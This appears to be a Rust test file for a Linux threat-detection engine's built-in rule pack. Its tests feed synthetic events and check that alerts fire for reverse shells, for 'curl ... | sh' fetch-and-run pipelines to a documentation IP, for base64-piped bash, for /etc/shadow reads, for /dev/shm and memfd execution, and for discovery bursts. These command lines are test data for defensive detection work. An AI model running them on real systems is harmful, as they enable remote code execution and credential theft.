//! The built-in pack loads and catches what it claims to.

use serde_json::json;

use super::{exec, net, open, run, titles};
use crate::detect::{Engine, EngineConfig, RuleSet};

fn builtin() -> Engine {
    let set = RuleSet::builtin();
    assert!(set.errors.is_empty(), "{:?}", set.errors);
    Engine::new(&set, EngineConfig::default()).expect("engine")
}

const SOCKET_STDIO: &str = "Shell or Interpreter With a Network Socket as Standard Input";
const CONNECT_THEN_SHELL: &str = "Connect Then Shell on the Socket by the Same Process";

#[test]
fn every_builtin_rule_is_documented_by_its_id() {
    let docs = include_str!("../../../../docs/rules.md");
    let set = RuleSet::builtin();
    let missing: Vec<String> = set
        .meta
        .iter()
        .filter(|m| !docs.contains(m.id.as_str()))
        .map(|m| format!("{} ({})", m.title, m.id))
        .collect();
    assert!(missing.is_empty(), "not in docs/rules.md: {missing:?}");
}

#[test]
fn every_builtin_rule_has_sigmahq_metadata() {
    let set = RuleSet::builtin();
    for meta in &set.meta {
        assert!(
            !meta.id.is_empty() && meta.id != meta.title,
            "{} has no id",
            meta.title
        );
        assert!(meta.author.is_some(), "{} has no author", meta.title);
        assert!(meta.level.is_some(), "{} has no level", meta.title);
        assert!(
            meta.description.is_some(),
            "{} has no description",
            meta.title
        );
        // Building blocks (informational) may omit ATT&CK tags; alerting rules may not.
        if meta.level.as_deref() != Some("informational") {
            assert!(
                meta.tags.iter().any(|t| t.starts_with("attack.t")),
                "{} untagged",
                meta.title
            );
            assert!(
                !meta.references.is_empty(),
                "{} has no references",
                meta.title
            );
        }
    }
}

#[test]
fn reverse_shell_connect_then_socket_shell_within_10s() {
    let mut engine = builtin();
    let socket = json!({"sensor": {"stdio": {"stdin": "socket", "stdout": "socket"}}});
    let events = [
        net(
            0.0,
            4242,
            "/usr/bin/bash",
            true,
            ("198.51.100.7", 4444),
            json!({}),
        ),
        exec(3.0, 4242, "/usr/bin/bash", "bash -i", socket.clone()),
    ];
    let alerts = run(&mut engine, &events);
    assert_eq!(titles(&alerts), [SOCKET_STDIO, CONNECT_THEN_SHELL]);
    let corr = &alerts[1];
    assert_eq!(corr["event"]["kind"], "alert");
    assert_eq!(corr["event"]["severity"], 99);
    assert_eq!(corr["sigma"]["level"], "critical");
    assert_eq!(corr["threat"]["framework"], "MITRE ATT&CK");
    assert_eq!(corr["threat"]["technique"][0]["id"], "T1059.004");
    let evidence = corr["sensor"]["correlation"]["events"]
        .as_array()
        .expect("events");
    let actions: Vec<&str> = evidence
        .iter()
        .filter_map(|e| e["event"]["action"].as_str())
        .collect();
    assert_eq!(actions, ["connect", "exec"], "contributing events in order");
    assert_eq!(corr["process"]["pid"], 4242);
}

#[test]
fn reverse_shell_correlation_needs_order_window_and_same_process() {
    let socket = json!({"sensor": {"stdio": {"stdin": "socket"}}});
    // Exec before connect: only the single-event rule.
    let mut engine = builtin();
    let alerts = run(
        &mut engine,
        &[
            exec(0.0, 4242, "/usr/bin/bash", "bash -i", socket.clone()),
            net(
                1.0,
                4242,
                "/usr/bin/bash",
                true,
                ("198.51.100.7", 4444),
                json!({}),
            ),
        ],
    );
    assert_eq!(titles(&alerts), [SOCKET_STDIO]);
    // Too late (11 s).
    let mut engine = builtin();
    let alerts = run(
        &mut engine,
        &[
            net(
                0.0,
                4242,
                "/usr/bin/bash",
                true,
                ("198.51.100.7", 4444),
                json!({}),
            ),
            exec(11.0, 4242, "/usr/bin/bash", "bash -i", socket.clone()),
        ],
    );
    assert_eq!(titles(&alerts), [SOCKET_STDIO]);
    // Another process.
    let mut engine = builtin();
    let alerts = run(
        &mut engine,
        &[
            net(
                0.0,
                4242,
                "/usr/bin/bash",
                true,
                ("198.51.100.7", 4444),
                json!({}),
            ),
            exec(1.0, 4243, "/usr/bin/bash", "bash -i", socket),
        ],
    );
    assert_eq!(titles(&alerts), [SOCKET_STDIO]);
}

#[test]
fn shell_with_tty_stdio_is_not_a_reverse_shell() {
    let mut engine = builtin();
    let tty = json!({"sensor": {"stdio": {"stdin": "tty", "stdout": "tty"}}});
    let alerts = run(
        &mut engine,
        &[exec(0.0, 1, "/usr/bin/bash", "bash -i", tty)],
    );
    assert!(alerts.is_empty(), "{alerts:?}");
}

#[test]
fn curl_pipe_shell_and_shadow_read_and_dev_shm() {
    // A shell reading a pipe, started by a command line that pipes into it.
    let piped = |parent: &str| json!({"process": {"parent": {"command_line": parent}}, "sensor": {"stdio": {"stdin": "pipe"}}});
    let mut engine = builtin();
    let alerts = run(
        &mut engine,
        &[
            exec(
                0.0,
                10,
                "/usr/bin/dash",
                "sh",
                piped("sh -c curl -fsSL http://198.51.100.7/i.sh | sh"),
            ),
            exec(
                1.0,
                11,
                "/usr/bin/bash",
                "bash",
                piped("bash -c echo aWQK | base64 -d | bash"),
            ),
            exec(
                2.0,
                12,
                "/usr/bin/bash",
                "bash -c curl -o /tmp/x http://198.51.100.7/x",
                json!({}),
            ),
            open(3.0, 13, "/usr/bin/cat", "/etc/shadow", false),
            open(4.0, 14, "/usr/sbin/sshd", "/etc/shadow", false),
            open(5.0, 15, "/usr/bin/vi", "/etc/shadow", true),
            exec(6.0, 16, "/dev/shm/.x/kworker", "kworker", json!({})),
            exec(
                7.0,
                17,
                "/memfd:x (deleted)",
                "x",
                json!({"sensor": {"exec": {"memfd": true}}}),
            ),
        ],
    );
    let mut pids: Vec<i64> = alerts
        .iter()
        .filter_map(|a| a["process"]["pid"].as_i64())
        .collect();
    pids.dedup();
    // 12 only downloads; sshd reading the shadow file is expected; vi writing it is not.
    assert_eq!(pids, [10, 11, 13, 15, 16, 17], "{:?}", titles(&alerts));
}

#[test]
fn discovery_burst_counts_distinct_programs_per_parent() {
    let mut engine = builtin();
    let parent =
        |ppid: u32| json!({"process": {"parent": {"pid": ppid, "entity_id": format!("p{ppid}")}}});
    let mut events = Vec::new();
    // The same program four times is not a burst.
    for i in 0..4 {
        events.push(exec(f64::from(i), 20 + i, "/usr/bin/id", "id", parent(7)));
    }
    // Four different programs under parent 8 within 60 s are.
    for (i, exe) in [
        "/usr/bin/whoami",
        "/usr/bin/uname",
        "/usr/bin/id",
        "/usr/sbin/ip",
    ]
    .iter()
    .enumerate()
    {
        events.push(exec(
            10.0 + i as f64 * 10.0,
            30 + i as u32,
            exe,
            "x",
            parent(8),
        ));
    }
    let alerts = run(&mut engine, &events);
    assert_eq!(
        titles(&alerts),
        ["Burst of Discovery Commands Under One Parent"]
    );
    assert_eq!(alerts[0]["sensor"]["correlation"]["value"], 4.0);
    assert_eq!(alerts[0]["process"]["pid"], 33);
}

#[test]
fn verdict_cache_changes_nothing_but_speed() {
    let parent =
        |ppid: u32| json!({"process": {"parent": {"pid": ppid, "entity_id": format!("p{ppid}")}}});
    let socket = json!({"sensor": {"stdio": {"stdin": "socket", "stdout": "socket"}}});
    let mut events = Vec::new();
    for round in 0..3 {
        let t = f64::from(round) * 100.0;
        for (i, exe) in [
            "/usr/bin/whoami",
            "/usr/bin/id",
            "/usr/bin/uname",
            "/usr/bin/ps",
            "/usr/bin/id",
        ]
        .iter()
        .enumerate()
        {
            events.push(exec(
                t + i as f64,
                40 + i as u32,
                exe,
                "x",
                parent(9 + round),
            ));
        }
        events.push(net(
            t + 6.0,
            4242,
            "/usr/bin/bash",
            true,
            ("198.51.100.7", 4444),
            json!({}),
        ));
        events.push(exec(
            t + 7.0,
            4242,
            "/usr/bin/bash",
            "bash -i",
            socket.clone(),
        ));
        events.push(exec(t + 8.0, 4243, "/usr/bin/bash", "bash -i", json!({})));
        events.push(open(t + 9.0, 13, "/usr/bin/cat", "/etc/shadow", false));
    }
    let run_with = |cache: bool| {
        let config = EngineConfig {
            verdict_cache: cache,
            alert_id_prefix: "x".into(),
            ..EngineConfig::default()
        };
        let mut engine = Engine::new(&RuleSet::builtin(), config).expect("engine");
        let alerts = run(&mut engine, &events);
        (alerts, engine.stats().cache_hits)
    };
    let (with, hits) = run_with(true);
    let (without, no_hits) = run_with(false);
    assert_eq!(with, without);
    // The burst fires at the fourth distinct program and again at the fifth event (no suppression).
    assert_eq!(with.len(), 15, "{:?}", titles(&with));
    assert!(hits > 10, "{hits}");
    assert_eq!(no_hits, 0);
}

#[test]
fn deleted_executable_event_meets_its_rule_only() {
    const DELETED: &str = "Running Program Whose Executable Was Deleted From a Dropper Location";
    let deleted = |t: f64, pid: u32| {
        exec(
            t,
            pid,
            "/tmp/.d/.sysupd",
            ".sysupd 3",
            json!({"event": {"type": ["change"], "action": "executable-deleted"},
                   "sensor": {"exe_deleted": {"link": "/tmp/.d/.sysupd"}}}),
        )
    };
    let mut engine = builtin();
    let alerts = run(&mut engine, &[deleted(0.0, 20)]);
    assert_eq!(titles(&alerts), [DELETED]);
    assert_eq!(alerts[0]["process"]["pid"], 20);
    assert_eq!(alerts[0]["sigma"]["level"], "high");
    let techniques: Vec<&str> = alerts[0]["threat"]["technique"]
        .as_array()
        .expect("techniques")
        .iter()
        .filter_map(|t| t["id"].as_str())
        .collect();
    assert!(techniques.contains(&"T1070.004"), "{techniques:?}");
    // The exec of the same program meets the exec rules, never this one.
    let alerts = run(
        &mut engine,
        &[exec(1.0, 21, "/tmp/.d/.sysupd", ".sysupd 3", json!({}))],
    );
    assert!(!titles(&alerts).iter().any(|t| t == DELETED));

    // A SigmaHQ-style process_creation rule that would match the fields does not see it.
    let mut creation = super::engine(
        "title: Exec From Tmp\nid: 0a4a0c4e-3c35-4f9e-9d7b-1f7b1c9e2a10\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|startswith: /tmp/\n  condition: sel\nlevel: high\n",
    );
    assert!(run(&mut creation, &[deleted(2.0, 22)]).is_empty());
    assert_eq!(
        run(
            &mut creation,
            &[exec(3.0, 23, "/tmp/.d/.sysupd", ".sysupd", json!({}))]
        )
        .len(),
        1
    );
}
